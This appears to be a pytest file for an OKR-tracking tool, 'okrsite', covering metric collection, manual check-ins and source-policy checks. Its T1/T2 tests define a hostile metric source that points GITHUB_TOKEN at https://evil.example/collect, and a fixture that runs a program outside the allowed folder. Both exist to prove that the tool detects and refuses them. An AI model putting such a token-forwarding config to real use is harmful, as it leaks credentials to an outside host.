"""Standing metrics collected like KRs, and recorded by hand: `okrsite collect` appends a reading
to okrs/metrics/UNIT.csv for each metric whose source answers (a command and a JSON export from
the repository, GitHub from the fake on 127.0.0.1 over https), `okrsite checkin --metric` one
typed value; and a metric's source is held to the same rules as a KR's (T1, T2): `okrsite
check` locates a token sent elsewhere or a program outside the programs folder at the metric's
file and line, `okrsite collect` never sends or runs it, `okrsite diff` flags it for review."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from okrsite import pipeline
from okrsite.cli import main
from okrsite.collect import github as github_reader
from okrsite.edit.reading import AlreadyRead, ReadingRequest, append_reading
from okrsite.load.repository import load
from okrsite.model.errors import OkrsiteError
from okrsite.model.source_policy import SETTINGS_FILE
from okrsite.site.markup import md_text
from tests.conftest import MINIMAL, WriteRepo
from tests.fake_github import TOKEN as GITHUB_TOKEN
from tests.fake_github import Deployment, FakeGithub, Repo
from tests.trust import Authority, serve_tls

DAY = "2026-11-20"
TODAY = date(2026, 11, 27)
NOV_27 = "1795737600"  # SOURCE_DATE_EPOCH of 2026-11-27 00:00 UTC
KR_CSV = "okrs/2026-Q4/payments.csv"
METRICS_YAML = "okrs/metrics/payments.yaml"
METRICS_CSV = "okrs/metrics/payments.csv"
READINGS = "date,metric,value,note\n2026-11-01,pages-per-week,6,\n2026-11-01,lead-time,8.5,\n"

PAGES = """\
  - id: pages-per-week
    title: Out-of-hours pages per week
    owner: Ana Silva
    measurement: Paging tool, four-week average
    max: 5
    source:
      kind: command
      command: [collectors/pages.sh, "28"]
"""
LEAD_TIME = """\
  - id: lead-time
    title: Median lead time for changes
    owner: Sam Lee
    measurement: Deployment pipeline export
    unit: days
    direction: down
    threshold: 7
    source:
      kind: json
      path: exports/pipeline.json
      expression: lead_time.median_days
"""
MANUAL = """\
  - id: on-call-load
    title: Hours on call per engineer a week
    owner: Ana Silva
    measurement: Rota, by hand
    max: 12
"""


def metrics_yaml(*metrics: str) -> str:
    return "metrics:\n" + "".join(metrics)


def repo(write_repo: WriteRepo, pages_script: str = 'echo "4.5"\n', **extra: str) -> Path:
    """MINIMAL (no KR has a source) with payments' three standing metrics: pages per week from a
    program, lead time from a JSON export, on-call load typed by hand."""
    root = write_repo(
        {
            **MINIMAL,
            METRICS_YAML: metrics_yaml(PAGES, LEAD_TIME, MANUAL),
            METRICS_CSV: READINGS,
            "exports/pipeline.json": '{"lead_time": {"median_days": 6.25}}\n',
            "collectors/pages.sh": "#!/bin/sh\n" + pages_script,
            **extra,
        }
    )
    (root / "collectors" / "pages.sh").chmod(0o755)
    return root


def collect(root: Path, *args: str) -> Result:
    """`okrsite collect` in root, as of DAY, today 2026-11-27."""
    return CliRunner().invoke(
        main,
        ["collect", "--root", str(root), "--date", DAY, *args],
        env={"SOURCE_DATE_EPOCH": NOV_27},
    )


def checkin(root: Path, *args: str) -> Result:
    """`okrsite checkin` in root, today 2026-11-27."""
    return CliRunner().invoke(
        main, ["checkin", "--root", str(root), *args], env={"SOURCE_DATE_EPOCH": NOV_27}
    )


PAGES_ROW = f"{DAY},pages-per-week,4.5,command: 4.5 from collectors/pages.sh 28"
LEAD_ROW = f"{DAY},lead-time,6.25,json: 6.25 from exports/pipeline.json at lead_time.median_days"


# --- collect ------------------------------------------------------------------------------------


def test_each_metric_source_becomes_a_reading(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    kr_before = (root / KR_CSV).read_bytes()
    result = collect(root)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"appended to {METRICS_CSV}: {PAGES_ROW}",
        f"appended to {METRICS_CSV}: {LEAD_ROW}",
    ]
    assert result.stderr.splitlines()[-1] == (
        "2026-Q4 as of 2026-11-20: 0 of 0 key results collected, 0 skipped, 0 failed; "
        "2 of 2 metrics collected, 0 skipped, 0 failed"
    )
    # Appended: the history is untouched, the KRs' CSV too; the hand-typed metric has no row.
    assert (root / METRICS_CSV).read_bytes() == (READINGS + f"{PAGES_ROW}\n{LEAD_ROW}\n").encode()
    assert (root / KR_CSV).read_bytes() == kr_before
    loaded = load(root)
    assert [p for p in loaded.problems if p.severity == "error"] == []
    latest = {
        m.id: (m.readings[-1].date, m.readings[-1].value)
        for m in loaded.repository.metrics
        if m.readings
    }
    assert latest == {
        "pages-per-week": (date(2026, 11, 20), 4.5),
        "lead-time": (date(2026, 11, 20), 6.25),
    }


def test_a_second_run_on_the_same_date_adds_nothing(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    assert collect(root).exit_code == 0
    once = (root / METRICS_CSV).read_bytes()
    again = collect(root)
    assert again.exit_code == 0, again.output
    assert again.stdout.splitlines() == [
        f"skipped metric payments/pages-per-week: already has a reading on {DAY}",
        f"skipped metric payments/lead-time: already has a reading on {DAY}",
    ]
    assert again.stderr.splitlines()[-1].endswith("; 0 of 2 metrics collected, 2 skipped, 0 failed")
    assert (root / METRICS_CSV).read_bytes() == once


def test_a_reading_typed_on_the_date_is_left_alone(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    typed = checkin(root, "--metric", "payments/lead-time", "7", "--date", DAY)
    assert typed.exit_code == 0, typed.output
    result = collect(root)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"appended to {METRICS_CSV}: {PAGES_ROW}",
        f"skipped metric payments/lead-time: already has a reading on {DAY}",
    ]
    rows = (root / METRICS_CSV).read_text(encoding="utf-8").splitlines()
    assert [r for r in rows if r.startswith(f"{DAY},lead-time,")] == [f"{DAY},lead-time,7,"]


def test_the_metrics_csv_is_created_with_its_header(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    (root / METRICS_CSV).unlink()
    result = collect(root)
    assert result.exit_code == 0, result.output
    assert (root / METRICS_CSV).read_bytes() == (
        f"date,metric,value,note\n{PAGES_ROW}\n{LEAD_ROW}\n".encode()
    )


def test_crlf_and_a_missing_final_line_break_are_kept(write_repo: WriteRepo) -> None:
    existing = b"date,metric,value,note\r\n2026-11-01,pages-per-week,6,"
    root = repo(write_repo, **{METRICS_CSV: existing})  # type: ignore[arg-type]
    assert collect(root, "--only", "command").exit_code == 0
    assert (root / METRICS_CSV).read_bytes() == existing + f"\r\n{PAGES_ROW}\r\n".encode()


def test_dry_run_prints_the_readings_and_writes_nothing(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    result = collect(root, "--dry-run")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"would append to {METRICS_CSV}: {PAGES_ROW}",
        f"would append to {METRICS_CSV}: {LEAD_ROW}",
    ]
    assert result.stderr.splitlines()[-1].endswith("; 2 of 2 metrics read, 0 skipped, 0 failed")
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS


def test_a_failing_metric_source_writes_nothing_for_it(write_repo: WriteRepo) -> None:
    root = repo(write_repo, pages_script='echo "about 4"\n')
    result = collect(root)
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.stdout.splitlines() == [f"appended to {METRICS_CSV}: {LEAD_ROW}"]
    assert result.stderr.splitlines() == [
        "failed metric payments/pages-per-week (command): collectors/pages.sh printed "
        "'about 4', which is not a number; write digits with a dot for decimals, e.g. 12.5",
        "2026-Q4 as of 2026-11-20: 0 of 0 key results collected, 0 skipped, 0 failed; "
        "1 of 2 metrics collected, 0 skipped, 1 failed",
    ]
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS + LEAD_ROW + "\n"


def test_krs_and_metrics_are_told_apart(write_repo: WriteRepo) -> None:
    """A KR and a metric of one program: the KR's row in the quarter, the metric's reading in
    okrs/metrics/, each line naming which."""
    yaml = MINIMAL["okrs/2026-Q4/payments.yaml"].replace(
        "        max: 5\n",
        "        max: 5\n        source:\n          kind: command\n"
        "          command: [collectors/pages.sh]\n",
    )
    root = repo(write_repo, **{"okrs/2026-Q4/payments.yaml": yaml})
    result = collect(root, "--only", "command")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        f"appended to {KR_CSV}: {DAY},delivery/change-failure-rate,4.5,,"
        "command: 4.5 from collectors/pages.sh,",
        f"appended to {METRICS_CSV}: {PAGES_ROW}",
    ]
    assert result.stderr.splitlines()[-1] == (
        "2026-Q4 as of 2026-11-20: 1 of 1 key results collected, 0 skipped, 0 failed; "
        "1 of 1 metrics collected, 0 skipped, 0 failed"
    )
    again = collect(root, "--only", "command")
    assert again.stdout.splitlines() == [
        f"skipped payments/delivery/change-failure-rate: already checked in on {DAY}",
        f"skipped metric payments/pages-per-week: already has a reading on {DAY}",
    ]


def test_kinds_and_units_choose_the_metrics_read(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    skip = collect(root, "--skip", "command", "--dry-run")
    assert skip.stdout.splitlines() == [f"would append to {METRICS_CSV}: {LEAD_ROW}"]
    only = collect(root, "--only", "command", "--dry-run")
    assert only.stdout.splitlines() == [f"would append to {METRICS_CSV}: {PAGES_ROW}"]
    # Another unit: nothing to read, and the summary says nothing of metrics.
    elsewhere = collect(root, "--unit", "platform")
    assert elsewhere.exit_code == 0, elsewhere.output
    assert elsewhere.stdout == ""
    assert elsewhere.stderr == (
        "2026-Q4 as of 2026-11-20: 0 of 0 key results collected, 0 skipped, 0 failed\n"
    )
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS


def test_collect_into_a_metrics_csv_already_written_meanwhile_adds_nothing(
    write_repo: WriteRepo,
) -> None:
    """Collect decides under the metrics folder's lock, on the CSV as it stands: a reading
    written since the repository was read outranks the one collected."""
    root = repo(write_repo)
    loaded = load(root)
    typed = ReadingRequest("payments/lead-time", "7", date(2026, 11, 20), "typed by Sam")
    append_reading(root, typed, TODAY, loaded)
    collected = ReadingRequest("payments/lead-time", "6.25", date(2026, 11, 20))
    with pytest.raises(AlreadyRead, match=r"already has a reading on 2026-11-20 for lead-time"):
        append_reading(root, collected, TODAY, loaded, only_if_missing=True)
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == (
        READINGS + "2026-11-20,lead-time,7,typed by Sam\n"
    )


# GitHub, over https from 127.0.0.1: eng's deployment frequency of acme/shop.

SHOP = Repo(
    "acme/shop",
    deployments=[
        Deployment(4, "2026-11-18T10:00:00Z"),
        Deployment(3, "2026-11-09T10:00:00Z"),
        Deployment(2, "2026-11-02T10:00:00Z", states=("failure",)),
        Deployment(1, "2026-10-01T10:00:00Z"),  # before the 28 days
    ],
)
ENG_METRICS = """\
metrics:
  - id: deployment-frequency
    title: Production deploys per week
    owner: Sam Lee
    measurement: GitHub deployments to production
    min: 1
    source:
      kind: github
      measure: deployment-frequency
      repositories: [acme/shop]
      environment: production
      api_url: {api_url}
"""


@pytest.fixture
def github(trusted: Authority) -> Iterator[FakeGithub]:
    """The fake GitHub with acme/shop, over https."""
    server = FakeGithub()
    server.add(SHOP)
    serve_tls(server._server, trusted)
    server.url = server.url.replace("http://", "https://")
    server.api_url = server.api_url.replace("http://", "https://")
    server.start()
    yield server
    server.stop()


def test_a_github_metric_is_read_from_the_workflow_s_github(
    write_repo: WriteRepo, github: FakeGithub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(github_reader, "PACING_SECONDS", None)
    eng = ENG_METRICS.replace("{api_url}", github.api_url)
    root = write_repo({**MINIMAL, "okrs/metrics/eng.yaml": eng})
    result = CliRunner().invoke(
        main,
        ["collect", "--root", str(root), "--date", DAY],
        env={
            "SOURCE_DATE_EPOCH": NOV_27,
            "GITHUB_TOKEN": GITHUB_TOKEN,
            "GITHUB_API_URL": github.api_url,
        },
    )
    assert result.exit_code == 0, result.output
    # Deployments 3 and 4 succeeded in the 28 days before 2026-11-20: 2 / 4 = 0.5 a week.
    row = (
        f"{DAY},deployment-frequency,0.5,github: 2 deployments to production in 28 days "
        "(0.5 a week)"
    )
    assert result.stdout.splitlines() == [f"appended to okrs/metrics/eng.csv: {row}"]
    assert (root / "okrs/metrics/eng.csv").read_text(encoding="utf-8") == (
        f"date,metric,value,note\n{row}\n"
    )
    assert {r.authorization for r in github.requests} == {f"token {GITHUB_TOKEN}"}


# --- checkin --metric ---------------------------------------------------------------------------


def test_checkin_of_a_metric_appends_one_reading(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    result = checkin(root, "--metric", "payments/on-call-load", "9.5", "--note", "Rota, week 47")
    assert result.exit_code == 0, result.output
    assert result.output == (
        f'appended to {METRICS_CSV}: 2026-11-27,on-call-load,9.5,"Rota, week 47"\n'
    )
    assert (root / METRICS_CSV).read_bytes() == (
        READINGS + '2026-11-27,on-call-load,9.5,"Rota, week 47"\n'
    ).encode()
    assert [p for p in pipeline.check(root, TODAY).problems if p.severity == "error"] == []


def test_checkin_of_a_metric_says_which_reading_it_replaces(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    result = checkin(root, "--metric", "payments/pages-per-week", "-0", "--date", "2026-11-01")
    assert result.exit_code == 0, result.output
    assert result.output == (
        f"appended to {METRICS_CSV}: 2026-11-01,pages-per-week,0,\n"
        "replaces the reading of 2026-11-01 for payments/pages-per-week (line 2): on one date "
        "the later row wins\n"
    )
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == (
        READINGS + "2026-11-01,pages-per-week,0,\n"
    )


def test_checkin_of_a_metric_creates_the_csv(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    (root / METRICS_CSV).unlink()
    result = checkin(root, "9", "--metric", "payments/on-call-load", "--date", "2026-06-30")
    assert result.exit_code == 0, result.output
    assert result.output == f"created {METRICS_CSV}: 2026-06-30,on-call-load,9,\n"
    assert (
        root / METRICS_CSV
    ).read_bytes() == b"date,metric,value,note\n2026-06-30,on-call-load,9,\n"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--metric", "payments/pages-per-wek", "3"],
            "unknown metric 'payments/pages-per-wek'; did you mean payments/pages-per-week?",
        ),
        (
            ["--metric", "payments/zzz", "3"],
            "unknown metric 'payments/zzz'; the metrics of payments are: "
            "payments/pages-per-week, payments/lead-time, payments/on-call-load",
        ),
        (
            ["--metric", "eng/lead-time", "3"],
            "unknown metric 'eng/lead-time'; did you mean payments/lead-time?",
        ),
        (
            ["--metric", "platform/uptime", "3"],
            "unknown metric 'platform/uptime'; platform has no standing metrics "
            "(okrs/metrics/platform.yaml); the metrics are: payments/pages-per-week, "
            "payments/lead-time, payments/on-call-load",
        ),
        (
            ["--metric", "billing/pages-per-week", "3"],
            "unknown unit 'billing'; the units are: eng, platform, payments",
        ),
        (
            ["--metric", "pages-per-week", "3"],
            "--metric 'pages-per-week' is not UNIT/METRIC; name a standing metric by its unit "
            "and id, e.g. eng/lead-time",
        ),
        (
            ["--metric", "payments/on-call-load", "lots"],
            "value 'lots' is not a number; write digits with a dot for decimals, e.g. 12.5",
        ),
        (
            ["--metric", "payments/on-call-load", "4,5"],
            "value '4,5' is not a number; write 4.5 (a dot, not a comma, before the decimals)",
        ),
        (
            ["--metric", "payments/on-call-load", "3", "--date", "2026-11-28"],
            "--date 2026-11-28 is after today, 2026-11-27: a reading records a value already "
            "measured; date it 2026-11-27 or earlier",
        ),
        (
            ["--metric", "payments/on-call-load", "3", "--date", "1999-12-31"],
            "--date 1999-12-31 is before 2000: okrsite takes readings from 2000-01-01 on; is "
            "the year a typo?",
        ),
    ],
)
def test_checkin_of_a_metric_refuses_with_one_line(
    write_repo: WriteRepo, args: list[str], message: str
) -> None:
    root = repo(write_repo)
    result = checkin(root, *args)
    assert result.exit_code == 2
    assert result.stderr == f"okrsite: error: {message}\n"
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--metric", "payments/on-call-load"], "Missing argument 'VALUE'"),
        (["--metric", "payments/on-call-load", "3", "4"], "--metric takes one VALUE, not 2"),
        (
            ["--metric", "payments/on-call-load", "3", "--confidence", "0.5"],
            "--confidence is for a key result's check-in",
        ),
        (["payments", "delivery/lead-time"], "Missing argument 'VALUE'; or give a standing"),
    ],
)
def test_checkin_usage_mistakes(write_repo: WriteRepo, args: list[str], message: str) -> None:
    root = repo(write_repo)
    result = checkin(root, *args)
    assert result.exit_code == 2
    assert f"Error: {message}" in result.stderr
    assert "Traceback" not in result.output
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS


def test_checkin_help_shows_both_shapes() -> None:
    result = CliRunner().invoke(
        main, ["checkin", "--help"], prog_name="okrsite", terminal_width=200
    )
    assert result.exit_code == 0
    assert result.output.startswith(
        "Usage: okrsite checkin [OPTIONS] UNIT OBJECTIVE/KR VALUE | --metric UNIT/METRIC VALUE\n"
    )
    assert "--metric UNIT/METRIC" in result.output
    assert "okrsite checkin --metric eng/lead-time 5.5" in result.output


def test_a_metrics_file_with_errors_is_reported_not_guessed(write_repo: WriteRepo) -> None:
    root = repo(write_repo)
    (root / METRICS_CSV).write_text(READINGS + "2026-11-02,pages-per-week,many,\n")
    with pytest.raises(OkrsiteError, match=r"okrs/metrics/payments\.csv:4:\d+: OKR036"):
        append_reading(root, ReadingRequest("payments/pages-per-week", "3", TODAY), TODAY)


# --- T1, T2: a metric's source is held to a KR's rules ------------------------------------------

SETTINGS = "hosts:\n  - prometheus.northwind.example\nprograms: collectors\n"


def found(root: Path, code: str) -> list[str]:
    """`PATH:LINE CODE MESSAGE` of each problem of code that check reports."""
    problems = pipeline.check(root, TODAY).problems
    return [
        f"{p.location.path}:{p.location.line} {p.code} {p.message}"
        for p in problems
        if p.code == code
    ]


EVIL_JSON = """\
  - id: error-rate
    title: Checkout error rate
    owner: Ana Silva
    measurement: Error tracker export
    max: 1
    source:
      kind: json
      url: https://evil.example/collect
      token_env: GITHUB_TOKEN
      expression: rate
"""


def evil_json(write_repo: WriteRepo, source: str = EVIL_JSON) -> Path:
    """A pull request adds a metric, its source at line 32 of the unit's metrics YAML."""
    evil = metrics_yaml(PAGES, LEAD_TIME, MANUAL, source)
    return repo(write_repo, **{METRICS_YAML: evil, SETTINGS_FILE: SETTINGS})


def test_a_metric_sending_github_token_elsewhere_is_a_located_check_error(
    write_repo: WriteRepo,
) -> None:
    """T1: a pull request adds a metric whose source sends GITHUB_TOKEN to its own server."""
    root = evil_json(write_repo)
    assert found(root, "OKR018") == [
        f"{METRICS_YAML}:32 OKR018 metric 'payments/error-rate' source: GITHUB_TOKEN goes only "
        "to the GitHub API of the workflow running okrsite (https://api.github.com), not to "
        "https://evil.example; for another server, name a token of its own in token_env and "
        "list its host in .github/okrsite-sources.yaml"
    ]


def test_a_metric_sending_another_token_to_an_unlisted_host_is_refused(
    write_repo: WriteRepo,
) -> None:
    source = EVIL_JSON.replace("token_env: GITHUB_TOKEN", "token_env: SENTRY_TOKEN")
    (problem,) = found(evil_json(write_repo, source), "OKR018")
    assert problem.startswith(
        f"{METRICS_YAML}:32 OKR018 metric 'payments/error-rate' source: SENTRY_TOKEN would go to "
        "https://evil.example, which .github/okrsite-sources.yaml does not list under hosts:"
    )


def test_collect_never_sends_a_metric_s_token_elsewhere(write_repo: WriteRepo) -> None:
    """T1 at collect time: the same rule, before any request; the token is never shown."""
    root = evil_json(write_repo)
    result = CliRunner().invoke(
        main,
        ["collect", "--root", str(root), "--date", DAY],
        env={"SOURCE_DATE_EPOCH": NOV_27, "GITHUB_TOKEN": GITHUB_TOKEN},
    )
    assert result.exit_code == 1
    (failed,) = [line for line in result.stderr.splitlines() if line.startswith("failed ")]
    assert failed.startswith(
        "failed metric payments/error-rate (json): GITHUB_TOKEN goes only to the GitHub API"
    )
    assert GITHUB_TOKEN not in result.output
    assert "error-rate" not in (root / METRICS_CSV).read_text(encoding="utf-8")


def abusive_program(write_repo: WriteRepo) -> Path:
    """A pull request adds okrs/metrics/run.sh and a metric whose command runs it."""
    source = PAGES.replace("collectors/pages.sh", "okrs/metrics/run.sh")
    root = repo(
        write_repo,
        **{
            METRICS_YAML: metrics_yaml(source, LEAD_TIME, MANUAL),
            SETTINGS_FILE: SETTINGS,
            "okrs/metrics/run.sh": "#!/bin/sh\ntouch ran\necho 1\n",
        },
    )
    (root / "okrs/metrics/run.sh").chmod(0o755)
    return root


def test_a_metric_running_a_program_outside_the_folder_is_a_located_check_error(
    write_repo: WriteRepo,
) -> None:
    """T2: the program a pull request added under okrs/, named in a metric's command source."""
    root = abusive_program(write_repo)
    assert found(root, "OKR025") == [
        f"{METRICS_YAML}:8 OKR025 metric 'payments/pages-per-week' source: the program "
        "'okrs/metrics/run.sh' is not in the programs folder collectors/ that "
        ".github/okrsite-sources.yaml declares; command sources run only programs kept there "
        "(e.g. collectors/run.sh)"
    ]


def test_collect_never_runs_a_metric_s_program_outside_the_folder(write_repo: WriteRepo) -> None:
    root = abusive_program(write_repo)
    result = collect(root)
    assert result.exit_code == 1
    (failed,) = [line for line in result.stderr.splitlines() if line.startswith("failed ")]
    assert failed.startswith(
        "failed metric payments/pages-per-week (command): the program 'okrs/metrics/run.sh' is "
        "not in the programs folder collectors/"
    )
    assert not (root / "ran").exists()
    assert (root / METRICS_CSV).read_text(encoding="utf-8") == READINGS + LEAD_ROW + "\n"


def run_git(root: Path, *arguments: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=Test", "-c", "user.email=test@example.invalid", *arguments],
        cwd=root,
        check=True,
        capture_output=True,
    )


def diff_output(root: Path, base: str, *options: str) -> str:
    result = CliRunner().invoke(main, ["diff", base, "--root", str(root), *options])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_diff_flags_a_metric_source_that_reaches_something_new(
    write_repo: WriteRepo, tmp_path: Path
) -> None:
    """T1, T2: a pull request points a metric at another host with GITHUB_TOKEN, and another at
    a program it added under okrs/: the job summary shows each for review."""
    base = repo(write_repo)
    run_git(base, "init", "-q", "-b", "main")
    run_git(base, "add", "-A")
    run_git(base, "commit", "-q", "-m", "base")
    changed = PAGES.replace("collectors/pages.sh", "okrs/metrics/run.sh")
    (base / METRICS_YAML).write_text(metrics_yaml(changed, LEAD_TIME, MANUAL, EVIL_JSON))
    (base / "okrs/metrics/run.sh").write_text("#!/bin/sh\necho 1\n")
    section = diff_output(base, "main").split("## Measurement sources to review\n", 1)[1]
    assert section == (
        "\nThis change lets `okrsite collect` reach something new: check each before merging.\n\n"
        f"- metrics / payments / pages-per-week: adds program {md_text('okrs/metrics/run.sh')}\n"
        f"- metrics / payments / error-rate: adds host {md_text('https://evil.example')}, "
        f"token {md_text('GITHUB_TOKEN')}\n"
    )
    data = json.loads(diff_output(base, "main", "--format", "json"))
    assert data["source_review"] == {
        "sources": [
            {
                "path": "metrics/payments/pages-per-week",
                "hosts": [],
                "tokens": [],
                "programs": ["okrs/metrics/run.sh"],
            },
            {
                "path": "metrics/payments/error-rate",
                "hosts": ["https://evil.example"],
                "tokens": ["GITHUB_TOKEN"],
                "programs": [],
            },
        ],
        "files": [],
    }


def test_diff_is_quiet_about_metric_sources_that_reach_nothing_new(
    write_repo: WriteRepo, tmp_path: Path
) -> None:
    before = tmp_path / "before"
    shutil.copytree(repo(write_repo), before)
    after = repo(write_repo, **{METRICS_YAML: metrics_yaml(LEAD_TIME, PAGES)})
    assert "Measurement sources to review" not in diff_output(after, str(before))
